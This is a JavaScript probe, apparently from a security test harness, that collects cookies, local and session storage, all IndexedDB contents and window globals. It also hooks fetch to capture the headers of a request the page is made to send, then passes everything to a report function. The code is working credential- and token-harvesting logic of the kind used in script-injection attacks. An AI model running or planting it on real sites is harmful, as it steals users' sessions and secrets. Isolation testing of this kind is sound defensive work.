// A1: reads every store a script can reach, and then lets the application
// make one call under its eyes (X5).
const places = {"document.cookie": document.cookie};
places.localStorage = JSON.stringify({...localStorage});
places.sessionStorage = JSON.stringify({...sessionStorage});

const done = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});
const databases = [];
for (const {name} of await indexedDB.databases()) {
  const database = await done(indexedDB.open(name));
  for (const store of database.objectStoreNames) databases.push(await done(database.transaction(store).objectStore(store).getAll()));
  database.close();
}
places.indexedDB = JSON.stringify(databases);

const globals = [];
for (const name of Object.keys(window)) {
  if (name === "localStorage" || name === "sessionStorage") continue; // read above
  try { globals.push(name + "=" + JSON.stringify(window[name])); } catch { /* the window itself, and its kind */ }
}
places.globals = globals.join("\n");

// The application calls fetch by its name, as nearly all do: whatever the
// closure hides, it hands over here.
const seen = [];
const original = window.fetch;
const called = new Promise((resolve) => {
  window.fetch = (input, options) => {
    const request = new Request(input, options);
    seen.push(...[...request.headers].map(([name, value]) => name + ": " + value));
    resolve();
    return original(input, options);
  };
});
document.querySelector("#again").click();
await within(10000, called);
window.fetch = original;
places.fetch = seen.join("\n");
await report(places, seen.length ? "" : "the application made no call");
